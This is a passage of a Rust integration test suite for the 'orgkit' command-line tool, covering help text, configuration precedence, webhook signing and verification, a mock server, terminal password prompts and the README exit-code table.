                        .find(|i| Some(i.name) == p.input)
                        .unwrap();
                    // A field named like the resource's scope is the scope.
                    for f in input
                        .fields
                        .iter()
                        .filter(|f| r.scope.iter().all(|s| s.name != f.name))
                    {
                        let flag = format!("--{}", f.name.replace('_', "-"));
                        let flag = flag
                            .strip_suffix("filters")
                            .map(|p| format!("{p}filter"))
                            .unwrap_or(flag);
                        assert!(help.contains(&flag), "{} lacks {flag}", op.name);
                    }
                }
            }
            seen += 1;
        }
        // The resource's help shows its scope and its operations.
        let out = run(cargo_bin_cmd!("orgkit").args([r.name, "--help"])).ok();
        for s in &r.scope {
            assert!(
                out.stdout.contains(&format!("<{}>", s.name.to_uppercase())),
                "{}",
                out.stdout
            );
        }
    }
    assert_eq!(seen, orgkit::Operation::ALL.len());
    let root = run(cargo_bin_cmd!("orgkit").arg("--help")).ok();
    for (code, name, _) in orgkit::cli::EXIT_CODES {
        assert!(
            root.stdout.contains(&format!("{code}  {name}")),
            "{}",
            root.stdout
        );
    }
}

#[test]
fn capabilities_request_and_completions() {
    let env = Env::new();
    let caps = run(env.cmd().args(["--provider", "kaana", "capabilities"])).ok();
    let names: Vec<String> = serde_json::from_value(caps.json()).unwrap();
    let expected: Vec<String> = orgkit::Client::builder(orgkit::Provider::Kaana)
        .build()
        .unwrap()
        .capabilities()
        .iter()
        .map(|s| s.to_string())
        .collect();
    assert_eq!(names, expected);
    let table = run(env
        .cmd()
        .args(["--provider", "pm415", "capabilities", "--table"]))
    .ok();
    assert!(
        table
            .stdout
            .contains("orgkit members <ORGANIZATION_ID> set-role <PERSON> <ROLE>"),
        "{}",
        table.stdout
    );
    let all = run(env.cmd().args(["capabilities"])).ok();
    assert!(all.json()["ourganize"]
        .as_array()
        .unwrap()
        .contains(&json!("tasks.complete")));

    let raw = run(env
        .ourganize()
        .args(["request", "GET", "/projects?limit=2&page=3"]))
    .ok();
    assert_eq!(raw.json()["data"].as_array().unwrap().len(), 2);
    assert_eq!(last_request(&env.server).query["page"], "3");

    for shell in ["bash", "zsh", "fish"] {
        let out = run(env.cmd().args(["completions", shell])).ok();
        assert!(
            out.stdout.contains("set-role") && out.stdout.contains("is-public"),
            "{shell}"
        );
    }
}

#[test]
fn flags_beat_env_which_beats_the_profile() {
    let env = Env::new();
    let url = env.server.base_url("ourganize");
    run(env.cmd().args(["config", "set", "provider", "ourganize"])).ok();
    run(env
        .cmd()
        .args(["config", "set", "base_url", "http://127.0.0.1:1/nowhere"]))
    .ok();
    run(env
        .cmd()
        .args(["config", "set", "api_key", "-"])
        .write_stdin("ogz_member_8a3e6f0c52b1\n"))
    .ok();

    // The profile alone: its base URL answers nothing.
    let r = run(env.cmd().args(["--max-retries", "0", "users", "me"]));
    assert_eq!(r.code, 6, "{}", r.stderr);
    // The variable beats the profile: the member's key from the profile.
    let r = run(env
        .cmd()
        .env("ORGKIT_OURGANIZE_BASE_URL", &url)
        .args(["users", "me"]))
    .ok();
    assert_eq!(r.json()["id"], seed::OURGANIZE_MEMBER_USER_ID);
    // An env credential replaces the profile's.
    let r = run(env
        .cmd()
        .env("ORGKIT_OURGANIZE_BASE_URL", &url)
        .env("ORGKIT_OURGANIZE_API_KEY", seed::OURGANIZE_ADMIN_KEY)
        .args(["users", "me"]))
    .ok();
    assert_eq!(r.json()["id"], seed::OURGANIZE_ADMIN_USER_ID);
    // A flag beats the variable.
    let r = run(env
        .cmd()
        .env("ORGKIT_OURGANIZE_BASE_URL", "http://127.0.0.1:1/nowhere")
        .args(["--base-url", &url, "users", "me"]))
    .ok();
    assert_eq!(r.json()["id"], seed::OURGANIZE_MEMBER_USER_ID);
    let shown = run(env.cmd().env("ORGKIT_OURGANIZE_BASE_URL", &url).args([
        "--profile",
        "default",
        "config",
        "show",
        "--json",
    ]))
    .ok();
    let e = &shown.json()["in_effect"];
    assert_eq!(e["base_url"]["source"], "env ORGKIT_OURGANIZE_BASE_URL");
    assert_eq!(e["api_key"]["source"], "profile default");
    assert!(!shown.stdout.contains(seed::OURGANIZE_MEMBER_KEY));

    // Another profile, and a provider the profile is not for.
    let r = run(env.cmd().args(["--profile", "other", "users", "me"]));
    assert_eq!(r.code, 2, "no provider: {}", r.stderr);
    run(env.cmd().args(["config", "unset", "api_key"])).ok();
    let file = std::fs::read_to_string(env.config()).unwrap();
    assert!(!file.contains("api_key"));
}

#[test]
fn webhooks_verify_runs_the_conformance_vectors_and_sign_round_trips() {
    let env = Env::new();
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/conformance/webhooks.json");
    let vectors: Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    for case in vectors["cases"].as_array().unwrap() {
        let mut c = env.cmd();
        c.args([
            "webhooks",
            "verify",
            "--json",
            "--secret",
            case["secret"].as_str().unwrap(),
        ]);
        for h in case["headers"].as_array().unwrap() {
            c.args([
                "--header",
                &format!("{}: {}", h[0].as_str().unwrap(), h[1].as_str().unwrap()),
            ]);
        }
        c.args(["--at", &case["now"].to_string()]);
        c.write_stdin(case["body"].as_str().unwrap());
        let r = run(&mut c);
        let name = case["name"].as_str().unwrap();
        match (&case["expected"]["ok"], &case["expected"]["error"]) {
            (ok, _) if !ok.is_null() => {
                assert_eq!(r.code, 0, "{name}: {}", r.stderr);
                let v = r.json();
                assert_eq!(v["type"], ok["event_type"], "{name}");
                assert_eq!(v["id"], ok["id"], "{name}");
            }
            (_, code) => {
                assert_ne!(r.code, 0, "{name}");
                let e: Value = serde_json::from_str(r.stderr.trim()).unwrap();
                assert_eq!(e["error"]["code"], *code, "{name}: {}", r.stderr);
            }
        }
    }

    let body = r#"{"type":"task.completed","timestamp":"2026-01-01T00:00:00Z","data":{"id":7,"title":"Ship","status":"completed"}}"#;
    let secret = "whsec_AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=";
    let signed = run(env
        .cmd()
        .args([
            "webhooks", "sign", "--table", "--secret", secret, "--id", "msg_7",
        ])
        .write_stdin(body))
    .ok();
    let headers: Vec<&str> = signed.stdout.lines().collect();
    assert_eq!(headers.len(), 3);
    assert_eq!(headers[0], "webhook-id: msg_7");
    let mut verify = env.cmd();
    verify
        .env("ORGKIT_WEBHOOK_SECRET", secret)
        .args(["webhooks", "verify"]);
    for h in &headers {
        verify.args(["-H", h]);
    }
    let ok = run(verify.write_stdin(body)).ok();
    assert_eq!(ok.json()["type"], "task.completed");
    assert_eq!(ok.json()["data"]["title"], "Ship");
    assert!(!ok.stdout.contains(secret) && !ok.stderr.contains(secret));
    let tampered = run(verify.write_stdin(body.replace("Ship", "Sink")));
    assert_eq!(tampered.code, 1);
    assert!(
        tampered.stderr.contains("WebhookVerification"),
        "{}",
        tampered.stderr
    );
}

#[test]
fn orgkit_mock_serves_until_stdin_closes() {
    let env = Env::new();
    let mut mock = env
        .std_cmd()
        .args(["mock", "--json"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(mock.stdout.take().unwrap());
    let mut url = String::new();
    out.read_line(&mut url).unwrap();
    let url = url.trim().to_string();
    assert!(url.starts_with("http://127.0.0.1:"), "{url}");
    let mut info = String::new();
    out.read_line(&mut info).unwrap();
    let info: Value = serde_json::from_str(&info).unwrap();
    let kaana = info["providers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["provider"] == "kaana")
        .unwrap();
    let mut c = env.cmd();
    for (k, v) in kaana["env"].as_object().unwrap() {
        c.env(k, v.as_str().unwrap());
    }
    let orgs = run(c.args(["--provider", "kaana", "organizations", "list"])).ok();
    assert_eq!(
        orgs.json().as_array().unwrap().len() as u64,
        seed::KAANA_ORG_COUNT
    );

    mock.stdin.take().unwrap().write_all(b"").unwrap(); // then dropped: closed
    let started = Instant::now();
    loop {
        if let Some(status) = mock.try_wait().unwrap() {
            assert!(status.success());
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "orgkit mock did not stop"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// `script` gives the command a terminal: the password prompt (without
/// echo) and the progress bar.
fn in_terminal(env: &Env, command: &str, input: &str) -> Option<String> {
    let script = ["/usr/bin/script", "/bin/script"]
        .into_iter()
        .find(|p| Path::new(p).exists())?;
    let mut c = StdCommand::new(script);
    for (k, _) in std::env::vars() {
        if k.starts_with("ORGKIT_") || k == "XDG_CONFIG_HOME" {
            c.env_remove(k);
        }
    }
    let mut child = c
        .env("ORGKIT_CONFIG", env.config())
        .args(["-qec", command, "/dev/null"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    let mut stdin = child.stdin.take()?;
    // Typed once the prompt is up.
    std::thread::sleep(Duration::from_millis(500));
    let _ = stdin.write_all(input.as_bytes());
    let _ = stdin.flush();
    let mut out = String::new();
    child.stdout.take()?.read_to_string(&mut out).ok()?;
    drop(stdin);
    child.wait().ok()?;
    Some(out)
}

#[test]
fn in_a_terminal_the_password_is_asked_for_and_the_bar_shows() {
    let env = Env::new();
    let login = format!(
        "{BIN} --provider pm415 --base-url {} auth login --email {} --jsonl",
        env.server.base_url("pm415"),
        seed::PM415_ADMIN_EMAIL
    );
    let Some(screen) = in_terminal(&env, &login, &format!("{}\n", seed::PM415_ADMIN_PASSWORD))
    else {
        eprintln!("no `script` here: skipped");
        return;
    };
    assert!(screen.contains("Password: "), "{screen}");
    assert!(
        !screen.contains(seed::PM415_ADMIN_PASSWORD),
        "echoed: {screen}"
    );
    assert!(screen.contains(seed::PM415_ADMIN_EMAIL), "{screen}");
    assert!(std::fs::read_to_string(env.config())
        .unwrap()
        .contains("token = "));

    let walk = format!(
        "{BIN} --provider ourganize --base-url {} --api-key {} projects list --all --jsonl > /dev/null",
        env.server.base_url("ourganize"),
        seed::OURGANIZE_ADMIN_KEY
    );
    let screen = in_terminal(&env, &walk, "").unwrap();
    assert!(screen.contains("45/45 items"), "{screen}");
    assert!(screen.contains("3 pages"), "{screen}");
    assert!(screen.contains("rate limit"), "{screen}");
}

#[test]
fn the_readme_exit_code_table_matches_the_cli() {
    let readme =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../README.md"))
            .unwrap();
    let section = &readme[readme.find("## CLI").expect("a CLI section")..];
    let rows: Vec<Vec<&str>> = section
        .lines()
        .take_while(|l| !l.starts_with("## ") || l.starts_with("## CLI"))
        .filter(|l| l.starts_with("| ") && l.chars().nth(2).is_some_and(|c| c.is_ascii_digit()))
        .map(|l| l.trim_matches('|').split('|').map(str::trim).collect())
        .collect();
    let codes: Vec<i32> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    let documented: Vec<i32> = orgkit::cli::EXIT_CODES.iter().map(|(c, ..)| *c).collect();
    assert_eq!(codes, documented);
    for row in &rows {
        for kind in row[2]
            .split(',')
            .map(str::trim)
            .filter(|k| !k.is_empty() && *k != "unknown flags")
        {
            let kind = orgkit::ErrorKind::ALL
                .iter()
                .find(|k| k.as_str() == kind)
                .unwrap_or_else(|| panic!("{kind}"));
            assert_eq!(
                orgkit::cli::exit_code(*kind),
                row[0].parse::<i32>().unwrap(),
                "{kind:?}"
            );
        }
    }
    let listed: usize = rows
        .iter()
        .map(|r| {
            r[2].split(',')
                .filter(|k| !k.trim().is_empty() && k.trim() != "unknown flags")
                .count()
        })
        .sum();
    assert_eq!(
        listed,
        orgkit::ErrorKind::ALL.len(),
        "every kind is in the table once"
    );
}
